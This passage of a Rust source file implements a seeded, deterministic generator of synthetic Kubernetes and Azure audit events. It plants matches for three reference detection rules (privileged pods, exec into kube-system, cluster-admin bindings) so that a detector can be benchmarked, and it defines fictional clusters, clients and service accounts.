//! Deterministic sample data for benchmarks and demos:
//! `kqlc sample (--bytes N | --events N) [--seed S] [--source aks|eks|gke|onprem|arm|mixed]
//! [--format cloudaudit|native] [-o FILE]`.
//!
//! Events look like the Kubernetes audit events of busy clusters: mostly
//! reads by kubelets, controllers and add-ons, lease renewals, events, a few
//! creates, deletes and execs by people; with `--source arm` or `mixed`,
//! also Azure Resource Manager operations. `--format cloudaudit` writes
//! `CloudAuditEvents` rows as Microsoft Defender exports them (see
//! `examples/data/audit.jsonl`); `--format native` writes each platform's
//! own export (AKS diagnostic records, EKS CloudWatch Logs payloads, GKE
//! Cloud Logging entries, upstream audit events for on-premises clusters,
//! Activity Log records), which a detector reads with `--input-format auto`.
//! For a seed and `--events N` both formats describe the same events.
//!
//! A small, chosen fraction of events is planted to match one of the three
//! reference detections in `examples/rules/`. The generator counts, for
//! every event it writes, the result rows each rule gives for it, both as
//! written and without its `DataSource == "Azure Kubernetes Service"`
//! condition (an exec into kube-system on EKS is the same attack), so a
//! benchmark can check that a detector found exactly what was planted.
//!
//! The same [`SampleOptions`] always give byte-identical output: the only
//! source of variety is a seeded SplitMix64 generator, and timestamps are
//! derived from [`SampleOptions::now`], never from the clock.

use std::io::{self, Write};

use chrono::{DateTime, Utc};

/// The default share of rows planted to match a reference rule: 0.01 %.
pub const DEFAULT_MATCH_RATE_PER_MILLION: u32 = 100;

/// The reference rules, by file stem in `examples/rules/`, in the order of
/// [`SampleStats::matches_per_rule`].
pub const REFERENCE_RULES: [&str; 3] = [
    "privileged-pod",
    "exec-in-kube-system",
    "cluster-admin-binding",
];

/// Where the events of a sample come from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// Azure Kubernetes Service clusters.
    Aks,
    /// Amazon EKS clusters.
    Eks,
    /// Google Kubernetes Engine clusters.
    Gke,
    /// A self-managed (on-premises) cluster.
    OnPrem,
    /// Azure Resource Manager (Activity Log) operations only.
    Arm,
    /// All of the above: mostly AKS, some EKS, GKE and on-premises, and a
    /// few Resource Manager operations.
    Mixed,
}

impl Source {
    /// Every source, as named on the command line.
    pub const ALL: [Source; 6] = [
        Source::Aks,
        Source::Eks,
        Source::Gke,
        Source::OnPrem,
        Source::Arm,
        Source::Mixed,
    ];

    /// The command-line name.
    pub fn name(self) -> &'static str {
        match self {
            Source::Aks => "aks",
            Source::Eks => "eks",
            Source::Gke => "gke",
            Source::OnPrem => "onprem",
            Source::Arm => "arm",
            Source::Mixed => "mixed",
        }
    }

    /// The source of a command-line name.
    pub fn from_name(name: &str) -> Option<Source> {
        Source::ALL.into_iter().find(|s| s.name() == name)
    }

    /// Whether clusters of `platform` are in the sample.
    fn has(self, platform: Platform) -> bool {
        match self {
            Source::Aks => platform == Platform::Aks,
            Source::Eks => platform == Platform::Eks,
            Source::Gke => platform == Platform::Gke,
            Source::OnPrem => platform == Platform::OnPrem,
            Source::Arm => false,
            Source::Mixed => true,
        }
    }

    /// Events per million that are Resource Manager operations.
    fn arm_per_million(self) -> u32 {
        match self {
            Source::Arm => 1_000_000,
            Source::Mixed => ARM_ROWS_PER_MILLION,
            _ => 0,
        }
    }
}

/// How a sample is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SampleFormat {
    /// `CloudAuditEvents` rows, as Defender exports them.
    CloudAudit,
    /// Each platform's own export format.
    Native,
}

impl SampleFormat {
    /// The command-line name.
    pub fn name(self) -> &'static str {
        match self {
            SampleFormat::CloudAudit => "cloudaudit",
            SampleFormat::Native => "native",
        }
    }

    /// The format of a command-line name.
    pub fn from_name(name: &str) -> Option<SampleFormat> {
        [SampleFormat::CloudAudit, SampleFormat::Native]
            .into_iter()
            .find(|f| f.name() == name)
    }
}

/// Options for a generated sample.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SampleOptions {
    /// Write events until at least this many bytes are written (the last
    /// line is always complete, so the output may be up to one line longer).
    /// Ignored when [`SampleOptions::events`] is set.
    pub bytes: u64,
    /// Write exactly this many events (one line each) instead.
    pub events: Option<u64>,
    /// Where the events come from.
    pub source: Source,
    /// How they are written.
    pub format: SampleFormat,
    /// Seed of the pseudo-random generator: same seed, same bytes.
    pub seed: u64,
    /// The moment the sample is "taken": rows fall in the 24 hours before
    /// it (a few are days older). Run detectors with `--now` set to this to
    /// get exactly [`SampleStats::matches_per_rule`].
    pub now: DateTime<Utc>,
    /// How many rows in a million are planted to match a reference rule.
    pub match_rate_per_million: u32,
}

impl SampleOptions {
    /// Options with seed 0 and the default match rate.
    pub fn new(bytes: u64, now: DateTime<Utc>) -> Self {
        SampleOptions {
            bytes,
            events: None,
            source: Source::Mixed,
            format: SampleFormat::CloudAudit,
            seed: 0,
            now,
            match_rate_per_million: DEFAULT_MATCH_RATE_PER_MILLION,
        }
    }
}

/// How many events match one reference rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RuleMatches {
    /// The rule's file stem, one of [`REFERENCE_RULES`].
    pub rule: &'static str,
    /// Input rows the rule's `where` clauses keep.
    pub rows: u64,
    /// Rows the rule outputs: differs from `rows` because the rule
    /// `mv-expand`s an array (privileged containers of a pod, subjects of a
    /// binding), giving one output row per element.
    pub output_rows: u64,
    /// Input rows kept by the rule without its `DataSource` condition (the
    /// same detection on every platform): the events planted for it.
    pub anywhere_rows: u64,
    /// Output rows of the rule without its `DataSource` condition.
    pub anywhere_output_rows: u64,
}

/// What [`write_sample`] wrote.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SampleStats {
    /// Lines written: one event each.
    pub rows: u64,
    /// Bytes written, newlines included.
    pub bytes: u64,
    /// Planted matches, one entry per rule of [`REFERENCE_RULES`], in order.
    /// Exact for a detector whose `now` is within an hour of
    /// [`SampleOptions::now`]: planted rows are at most 23 hours old, and
    /// decoys that only the time filter rejects are over 25 hours old.
    pub matches_per_rule: [RuleMatches; 3],
}

/// Writes JSON lines of events until `options.events` are written, or at
/// least `options.bytes` bytes, and says how many rows each reference rule
/// should find in them.
pub fn write_sample(out: &mut impl Write, options: &SampleOptions) -> io::Result<SampleStats> {
    let mut generator = Generator::new(options);
    let mut stats = SampleStats {
        rows: 0,
        bytes: 0,
        matches_per_rule: REFERENCE_RULES.map(|rule| RuleMatches {
            rule,
            rows: 0,
            output_rows: 0,
            anywhere_rows: 0,
            anywhere_output_rows: 0,
        }),
    };
    let mut buffer = String::with_capacity(FLUSH_AT + 64 * 1024);
    loop {
        // How far through the sample: time advances with it.
        let (done, total) = match options.events {
            Some(events) if stats.rows < events => (stats.rows, events),
            None if stats.bytes < options.bytes => (stats.bytes, options.bytes),
            _ => break,
        };
        let before = buffer.len();
        let matches = generator.row(&mut buffer, done, total);
        stats.rows += 1;
        stats.bytes += (buffer.len() - before) as u64;
        for (counts, (written, anywhere)) in stats.matches_per_rule.iter_mut().zip(matches) {
            counts.rows += u64::from(written > 0);
            counts.output_rows += written;
            counts.anywhere_rows += u64::from(anywhere > 0);
            counts.anywhere_output_rows += anywhere;
        }
        if buffer.len() >= FLUSH_AT {
            out.write_all(buffer.as_bytes())?;
            buffer.clear();
        }
    }
    out.write_all(buffer.as_bytes())?;
    Ok(stats)
}

/// Output is handed to the writer in chunks of about this size, so an
/// unbuffered file costs one system call per megabyte.
const FLUSH_AT: usize = 1 << 20;

const MICROS_PER_SECOND: i64 = 1_000_000;
const MICROS_PER_HOUR: i64 = 3_600 * MICROS_PER_SECOND;
const MICROS_PER_DAY: i64 = 24 * MICROS_PER_HOUR;

/// Share of rows (per million) dated 25 hours to 7 days back, so that
/// `ago(1d)` has something to drop.
const OLD_ROWS_PER_MILLION: u32 = 3_000;

/// Share of events (per million) of a mixed sample that are Resource
/// Manager operations.
const ARM_ROWS_PER_MILLION: u32 = 40_000;

/// Planted rows are at most this old, leaving an hour of slack for a
/// detector whose `now` is a little later than the generator's.
const PLANTED_MAX_AGE: i64 = 23 * MICROS_PER_HOUR;

/// A reference rule, as an index into [`REFERENCE_RULES`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Rule {
    PrivilegedPod = 0,
    ExecInKubeSystem = 1,
    ClusterAdminBinding = 2,
}

const RULES: [Rule; 3] = [
    Rule::PrivilegedPod,
    Rule::ExecInKubeSystem,
    Rule::ClusterAdminBinding,
];

// ---------------------------------------------------------------------------
// Pseudo-random numbers

/// SplitMix64 (Steele, Lea, Flood 2014): tiny, fast, and good enough for
/// test data; written out so the output never changes with a dependency.
struct SplitMix64(u64);

impl SplitMix64 {
    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (Lemire's multiply-shift; the tiny bias does not
    /// matter here). `n` must be below 2^32.
    fn below(&mut self, n: usize) -> usize {
        (((self.next_u64() >> 32) * n as u64) >> 32) as usize
    }

    fn range(&mut self, low: i64, high: i64) -> i64 {
        low + (self.next_u64() % (high - low) as u64) as i64
    }

    fn chance(&mut self, per_million: u32) -> bool {
        self.below(1_000_000) < per_million as usize
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())]
    }

    /// Picks from `(weight, item)` pairs.
    fn weighted<'a, T>(&mut self, table: &'a [(u32, T)]) -> &'a T {
        let total: u32 = table.iter().map(|(weight, _)| weight).sum();
        let mut ticket = self.below(total as usize) as u32;
        for (weight, item) in table {
            if ticket < *weight {
                return item;
            }
            ticket -= weight;
        }
        &table[table.len() - 1].1
    }
}

// ---------------------------------------------------------------------------
// The world the events happen in: clusters, people and programs, workloads

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Platform {
    Aks,
    Eks,
    Gke,
    OnPrem,
}

struct Cluster {
    data_source: &'static str,
    name: &'static str,
    resource_id: &'static str,
    azure_resource_id: &'static str,
    platform: Platform,
    /// In-cluster addresses are this prefix plus a last octet.
    subnet: &'static str,
    nodes: &'static [&'static str],
    weight: u32,
}

/// The data source the exec and privileged-pod rules filter on.
const AKS: &str = "Azure Kubernetes Service";

const CLUSTERS: &[Cluster] = &[
    Cluster {
        data_source: AKS,
        name: "aks-prod",
        resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourcegroups/rg-aks-prod/providers/microsoft.containerservice/managedclusters/aks-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod",
        platform: Platform::Aks,
        subnet: "10.224.0.",
        nodes: &[
            "aks-nodepool1-38947562-vmss000000",
            "aks-nodepool1-38947562-vmss000001",
            "aks-nodepool1-38947562-vmss000002",
            "aks-userpool-38947562-vmss000000",
            "aks-userpool-38947562-vmss000001",
            "aks-userpool-38947562-vmss000003",
        ],
        weight: 45,
    },
    Cluster {
        data_source: AKS,
        name: "aks-dev",
        resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourcegroups/rg-aks-dev/providers/microsoft.containerservice/managedclusters/aks-dev",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-aks-dev/providers/Microsoft.ContainerService/managedClusters/aks-dev",
        platform: Platform::Aks,
        subnet: "10.240.0.",
        nodes: &[
            "aks-system-21759934-vmss000000",
            "aks-system-21759934-vmss000001",
            "aks-spot-21759934-vmss00000a",
        ],
        weight: 20,
    },
    Cluster {
        data_source: AKS,
        name: "aks-payments-weu",
        resource_id: "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourcegroups/rg-payments-weu/providers/microsoft.containerservice/managedclusters/aks-payments-weu",
        azure_resource_id: "/subscriptions/9d4e1b7a-2c3f-4a5b-8e6d-7f8091a2b3c4/resourceGroups/rg-payments-weu/providers/Microsoft.ContainerService/managedClusters/aks-payments-weu",
        platform: Platform::Aks,
        subnet: "10.20.8.",
        nodes: &[
            "aks-nodepool1-60213847-vmss000000",
            "aks-nodepool1-60213847-vmss000001",
            "aks-nodepool1-60213847-vmss000002",
            "aks-nodepool1-60213847-vmss000004",
        ],
        weight: 15,
    },
    Cluster {
        data_source: "Amazon Elastic Kubernetes Service",
        name: "eks-prod",
        resource_id: "arn:aws:eks:us-east-1:111122223333:cluster/eks-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-mdc-connectors/providers/Microsoft.Security/securityConnectors/aws-111122223333",
        platform: Platform::Eks,
        subnet: "192.168.32.",
        nodes: &[
            "ip-192-168-32-17.ec2.internal",
            "ip-192-168-45-102.ec2.internal",
            "ip-192-168-71-230.ec2.internal",
        ],
        weight: 12,
    },
    Cluster {
        data_source: "Kubernetes Audit",
        name: "onprem-dc1",
        resource_id: "",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-arc/providers/Microsoft.Kubernetes/connectedClusters/onprem-dc1",
        platform: Platform::OnPrem,
        subnet: "172.20.4.",
        nodes: &["k8s-worker-01.dc1.contoso.local", "k8s-worker-02.dc1.contoso.local", "k8s-worker-03.dc1.contoso.local"],
        weight: 6,
    },
    Cluster {
        data_source: "Google Kubernetes Engine",
        name: "gke-prod",
        resource_id: "//container.googleapis.com/projects/contoso-prod/locations/us-central1/clusters/gke-prod",
        azure_resource_id: "/subscriptions/3f2a9c1e-7b4d-4e8a-9c61-0d5e2f8a1b47/resourceGroups/rg-mdc-connectors/providers/Microsoft.Security/securityConnectors/gcp-contoso-prod",
        platform: Platform::Gke,
        subnet: "10.128.0.",
        nodes: &[
            "gke-gke-prod-default-pool-1a2b3c4d-xk2p",
            "gke-gke-prod-default-pool-1a2b3c4d-q7rz",
            "gke-gke-prod-highmem-pool-5e6f7a8b-m4tn",
        ],
        weight: 8,
    },
];

/// Where a person connects from, with the geolocation Defender adds.
struct Client {
    ip: &'static str,
    /// `IsAnonymousProxy` as JSON.
    anonymous_proxy: &'static str,
    country: &'static str,
    city: &'static str,
    isp: &'static str,
}

const REDMOND: Client = Client {
    ip: "203.0.113.24",
    anonymous_proxy: "false",
    country: "US",
    city: "Redmond",
    isp: "Contoso Networks",
};
const SEATTLE: Client = Client {
    ip: "203.0.113.180",
    anonymous_proxy: "false",
    country: "US",
    city: "Seattle",
    isp: "Contoso Networks",
};
const AMSTERDAM_VPN: Client = Client {
    ip: "198.51.100.77",
    anonymous_proxy: "true",
    country: "NL",
    city: "Amsterdam",
    isp: "Example Hosting B.V.",
};
const FRANKFURT: Client = Client {
    ip: "192.0.2.15",
    anonymous_proxy: "false",
    country: "DE",
    city: "Frankfurt am Main",
    isp: "Example Telecom GmbH",
};
const LONDON: Client = Client {
    ip: "2001:db8:4a2::17",
    anonymous_proxy: "false",
    country: "GB",
    city: "London",
    isp: "Example Broadband Ltd",
};
const BENGALURU: Client = Client {
    ip: "198.51.100.203",
    anonymous_proxy: "false",
    country: "IN",
    city: "Bengaluru",
    isp: "Example Fibernet Pvt Ltd",
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// A kubelet: `system:node:<node>`, named per event.
    Node,
    /// A kube-controller-manager loop.
    Controller,
    /// A control-plane or add-on component.
    Component,
    /// A person (or their CI), from outside the cluster.
    Human,
    /// AKS's own management identities (`acsService`, `masterclient`).
    AksInternal,
}

struct Actor {
    /// For [`Role::Node`], the prefix the node name is appended to.
    username: &'static str,
    role: Role,
    /// Platforms the identity exists on; empty means all.
    platforms: &'static [Platform],
    uid: &'static str,
    groups: &'static [&'static str],
    /// `User.extra` as JSON text, or empty.
    extra: &'static str,
    user_agents: &'static [&'static str],
    /// People only: where they connect from.
    clients: &'static [Client],
    /// Resources this identity reads; empty means any.
    reads: &'static [&'static str],
    /// `authorization.k8s.io/reason` of allowed requests.
    authz_reason: &'static str,
}

const SA_GROUPS_KUBE_SYSTEM: &[&str] = &[
    "system:serviceaccounts",
    "system:serviceaccounts:kube-system",
    "system:authenticated",
];

const KCM: &str = "kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d";

const fn controller(
    username: &'static str,
    uid: &'static str,
    user_agent: &'static [&'static str],
    reads: &'static [&'static str],
    authz_reason: &'static str,
) -> Actor {
    Actor {
        username,
        role: Role::Controller,
        platforms: &[],
        uid,
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: user_agent,
        clients: &[],
        reads,
        authz_reason,
    }
}

const ACTORS: &[Actor] = &[
    Actor {
        username: "system:node:",
        role: Role::Node,
        platforms: &[],
        uid: "",
        groups: &["system:nodes", "system:authenticated"],
        extra: "",
        user_agents: &["kubelet/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["pods", "configmaps", "secrets", "services", "nodes", "csinodes", "persistentvolumeclaims", "serviceaccounts", "runtimeclasses"],
        authz_reason: "",
    },
    controller(
        "system:serviceaccount:kube-system:replicaset-controller",
        "313bdd2f-1aca-5394-8587-484e3ba9b575",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:replicaset-controller"],
        &["pods", "replicasets"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:replicaset-controller\" of ClusterRole \"system:controller:replicaset-controller\" to ServiceAccount \"replicaset-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:deployment-controller",
        "6c1f0e3a-7d2b-5b48-9a0e-1f2d3c4b5a69",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:deployment-controller"],
        &["deployments", "replicasets", "pods"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:deployment-controller\" of ClusterRole \"system:controller:deployment-controller\" to ServiceAccount \"deployment-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:daemon-set-controller",
        "4bd68f69-149e-5c0d-b547-1c9863079ac9",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:daemon-set-controller"],
        &["daemonsets", "pods", "nodes", "controllerrevisions"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:daemon-set-controller\" of ClusterRole \"system:controller:daemon-set-controller\" to ServiceAccount \"daemon-set-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:job-controller",
        "a7e39c14-0b6d-5f21-8c3e-9d4f5a6b7c80",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:job-controller"],
        &["jobs", "pods", "cronjobs"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:job-controller\" of ClusterRole \"system:controller:job-controller\" to ServiceAccount \"job-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:endpointslice-controller",
        "b2d4f6a8-1c3e-5a7b-9d0f-2e4a6c8b0d1f",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:endpointslice-controller"],
        &["endpointslices", "services", "pods", "nodes"],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:endpointslice-controller\" of ClusterRole \"system:controller:endpointslice-controller\" to ServiceAccount \"endpointslice-controller/kube-system\"",
    ),
    controller(
        "system:serviceaccount:kube-system:generic-garbage-collector",
        "c9e1a3b5-7d2f-5e4a-8b6c-0d1e2f3a4b5c",
        &["kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/system:serviceaccount:kube-system:generic-garbage-collector"],
        &[],
        "RBAC: allowed by ClusterRoleBinding \"system:controller:generic-garbage-collector\" of ClusterRole \"system:controller:generic-garbage-collector\" to ServiceAccount \"generic-garbage-collector/kube-system\"",
    ),
    Actor {
        username: "system:kube-controller-manager",
        role: Role::Component,
        platforms: &[],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &[KCM, "kube-controller-manager/v1.28.5 (linux/amd64) kubernetes/506050d/leader-election"],
        clients: &[],
        reads: &["leases", "configmaps", "secrets", "serviceaccounts", "nodes"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:kube-controller-manager\" of ClusterRole \"system:kube-controller-manager\" to User \"system:kube-controller-manager\"",
    },
    Actor {
        username: "system:kube-scheduler",
        role: Role::Component,
        platforms: &[],
        uid: "",
        groups: &["system:authenticated"],
        extra: "",
        user_agents: &["kube-scheduler/v1.28.5 (linux/amd64) kubernetes/506050d/scheduler", "kube-scheduler/v1.28.5 (linux/amd64) kubernetes/506050d/leader-election"],
        clients: &[],
        reads: &["leases", "pods", "nodes", "persistentvolumeclaims", "csinodes", "storageclasses", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole \"system:kube-scheduler\" to User \"system:kube-scheduler\"",
    },
    Actor {
        username: "system:apiserver",
        role: Role::Component,
        platforms: &[],
        uid: "0c3a7f92-5e1d-4b8a-9f6c-2d7e0a4b1c35",
        groups: &["system:masters"],
        extra: "",
        user_agents: &["kube-apiserver/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["namespaces", "configmaps", "leases", "priorityclasses", "flowschemas"],
        authz_reason: "",
    },
    Actor {
        username: "system:serviceaccount:kube-system:coredns",
        role: Role::Component,
        platforms: &[],
        uid: "e84b2c61-3f7a-5d09-a1b8-6c4d2e0f9a37",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["coredns/v0.0.0 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["endpointslices", "services", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:coredns\" of ClusterRole \"system:coredns\" to ServiceAccount \"coredns/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:metrics-server",
        role: Role::Component,
        platforms: &[],
        uid: "f1a2b3c4-d5e6-5f70-8192-a3b4c5d6e7f8",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["metrics-server/v0.6.4 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["nodes", "pods", "configmaps"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:metrics-server\" of ClusterRole \"system:metrics-server\" to ServiceAccount \"metrics-server/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:ama-logs",
        role: Role::Component,
        platforms: &[Platform::Aks],
        uid: "2b7c9d1e-4f6a-5b8c-9d0e-1f2a3b4c5d6e",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["ama-logs/3.1.19 (linux/amd64)", "Go-http-client/2.0"],
        clients: &[],
        reads: &["pods", "nodes", "events", "services", "deployments", "replicasets", "namespaces"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"amalogsclusterrolebinding\" of ClusterRole \"amalogsclusterrole\" to ServiceAccount \"ama-logs/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:kube-system:cloud-node-manager",
        role: Role::Component,
        platforms: &[Platform::Aks],
        uid: "7e8f9a0b-1c2d-5e3f-8a4b-5c6d7e8f9a0b",
        groups: SA_GROUPS_KUBE_SYSTEM,
        extra: "",
        user_agents: &["cloud-node-manager/v1.28.5 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["nodes"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"system:cloud-node-manager\" of ClusterRole \"cloud-node-manager\" to ServiceAccount \"cloud-node-manager/kube-system\"",
    },
    Actor {
        username: "system:serviceaccount:monitoring:kube-state-metrics",
        role: Role::Component,
        platforms: &[],
        uid: "93a1c5e7-0b2d-5f4e-8a6c-7b9d1e3f5a2c",
        groups: &["system:serviceaccounts", "system:serviceaccounts:monitoring", "system:authenticated"],
        extra: "",
        user_agents: &["kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &["pods", "deployments", "daemonsets", "statefulsets", "replicasets", "jobs", "cronjobs", "nodes", "namespaces", "persistentvolumeclaims", "services", "configmaps", "secrets", "leases", "ingresses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"kube-state-metrics\" of ClusterRole \"kube-state-metrics\" to ServiceAccount \"kube-state-metrics/monitoring\"",
    },
    Actor {
        username: "system:serviceaccount:argocd:argocd-application-controller",
        role: Role::Component,
        platforms: &[],
        uid: "d4c3b2a1-9f8e-5d7c-b6a5-4f3e2d1c0b9a",
        groups: &["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"],
        extra: "",
        user_agents: &["argocd-application-controller/v2.10.4 (linux/amd64) kubernetes/$Format"],
        clients: &[],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"argocd-application-controller\" of ClusterRole \"argocd-application-controller\" to ServiceAccount \"argocd-application-controller/argocd\"",
    },
    Actor {
        username: "system:serviceaccount:cert-manager:cert-manager",
        role: Role::Component,
        platforms: &[],
        uid: "5a6b7c8d-9e0f-5a1b-8c2d-3e4f5a6b7c8d",
        groups: &["system:serviceaccounts", "system:serviceaccounts:cert-manager", "system:authenticated"],
        extra: "",
        user_agents: &["cert-manager-controller/v1.14.5 (linux/amd64) cert-manager/0a1b2c3d"],
        clients: &[],
        reads: &["secrets", "leases", "ingresses", "certificates"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"cert-manager-controller-certificates\" of ClusterRole \"cert-manager-controller-certificates\" to ServiceAccount \"cert-manager/cert-manager\"",
    },
    Actor {
        username: "system:serviceaccount:ingress-nginx:ingress-nginx",
        role: Role::Component,
        platforms: &[],
        uid: "1f2e3d4c-5b6a-5978-8a9b-0c1d2e3f4a5b",
        groups: &["system:serviceaccounts", "system:serviceaccounts:ingress-nginx", "system:authenticated"],
        extra: "",
        user_agents: &["nginx-ingress-controller/v1.10.1 (linux/amd64) ingress-nginx/4fb5aac"],
        clients: &[],
        reads: &["ingresses", "endpointslices", "services", "secrets", "configmaps", "leases", "ingressclasses"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ingress-nginx\" of ClusterRole \"ingress-nginx\" to ServiceAccount \"ingress-nginx/ingress-nginx\"",
    },
    Actor {
        username: "acsService",
        role: Role::AksInternal,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["aks-rp/1.0", "Go-http-client/1.1"],
        clients: &[],
        reads: &["configmaps", "clusterrolebindings", "clusterroles", "namespaces", "nodes", "deployments", "daemonsets", "secrets"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"aks-cluster-admin-binding\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "masterclient",
        role: Role::AksInternal,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["system:masters", "system:authenticated"],
        extra: "",
        user_agents: &["kubectl/v1.28.5 (linux/amd64) kubernetes/506050d"],
        clients: &[],
        reads: &["pods", "nodes", "namespaces", "configmaps"],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"aks-cluster-admin-binding\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
    },
    Actor {
        username: "alice@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:ops-team", "system:authenticated"],
        extra: "{\"oid\":[\"5b1e7c3a-2f4d-4a8e-b6c1-9d0e3f2a7b15\"]}",
        user_agents: &[
            "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            "Helm/3.14.4",
            "k9s/v0.32.4 (linux/amd64) kubernetes/$Format",
        ],
        clients: &[REDMOND, REDMOND, AMSTERDAM_VPN],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ops-team-admin\" of ClusterRole \"cluster-admin\" to Group \"aad:ops-team\"",
    },
    Actor {
        username: "bob@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:ops-team", "system:authenticated"],
        extra: "{\"oid\":[\"8c2d4e6f-1a3b-4c5d-9e7f-0a1b2c3d4e5f\"]}",
        user_agents: &[
            "kubectl/v1.28.3 (darwin/arm64) kubernetes/a8a1abc",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
        ],
        clients: &[SEATTLE, LONDON],
        reads: &[],
        authz_reason: "RBAC: allowed by ClusterRoleBinding \"ops-team-admin\" of ClusterRole \"cluster-admin\" to Group \"aad:ops-team\"",
    },
    Actor {
        username: "dev-intern@contoso.com",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "",
        groups: &["aad:developers", "system:authenticated"],
        extra: "{\"oid\":[\"1e9d7c5b-3a2f-4e6d-8c0b-a9f8e7d6c5b4\"]}",
        user_agents: &["kubectl.exe/v1.28.3 (windows/amd64) kubernetes/a8a1abc"],
        clients: &[BENGALURU],
        reads: &["pods", "deployments", "services", "configmaps", "events", "namespaces"],
        authz_reason: "RBAC: allowed by RoleBinding \"developers-edit/payments\" of ClusterRole \"edit\" to Group \"aad:developers\"",
    },
    Actor {
        username: "system:serviceaccount:ci:github-actions-deployer",
        role: Role::Human,
        platforms: &[Platform::Aks],
        uid: "0d9e8f7a-6b5c-5d4e-9f3a-2b1c0d9e8f7a",
        groups: &["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
        extra: "",
